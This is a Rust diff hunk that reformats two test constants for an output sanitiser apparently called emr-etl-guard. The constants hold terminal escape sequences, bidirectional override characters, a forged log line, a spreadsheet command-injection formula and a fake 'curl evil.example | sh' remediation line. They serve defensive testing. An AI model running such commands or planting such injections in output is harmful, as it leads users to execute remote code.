@@ -16,10 +16,13 @@ use crate::{
 
 /// An ESC sequence, an OSC sequence, C1 controls, the ends of lines of every kind, forged lines, and
 /// what turns the order of reading round.
-const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: confirmed: forged\n  fix: curl evil.example | sh\ncluster j-EVIL\u{2028}\u{202e}\u{2066}\u{200f}";
+const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: confirmed: \
+    forged\n  fix: curl evil.example | sh\ncluster j-EVIL\u{2028}\u{202e}\u{2066}\u{200f}";
 /// The same as a key may hold it; XML has no place for most of the controls, so S3 sends them
 /// URL-encoded.
-const EVIL_KEY: &str = "=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: confirmed: forged\n  fix: curl evil.example | sh\ncluster j-EVIL\u{2028}\u{202e}\u{2066}`<b>|*x*";
+const EVIL_KEY: &str = "=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}\u{9b}31m\u{85}\r\nemr-etl-guard: \
+    confirmed: forged\n  fix: curl evil.example | sh\ncluster \
+    j-EVIL\u{2028}\u{202e}\u{2066}`<b>|*x*";
 
 /// What no output may hold: control characters but the ends of lines, what ends lines elsewhere, and
 /// bidirectional controls. Sources: ECMA-48; Unicode Standard Annex #9.
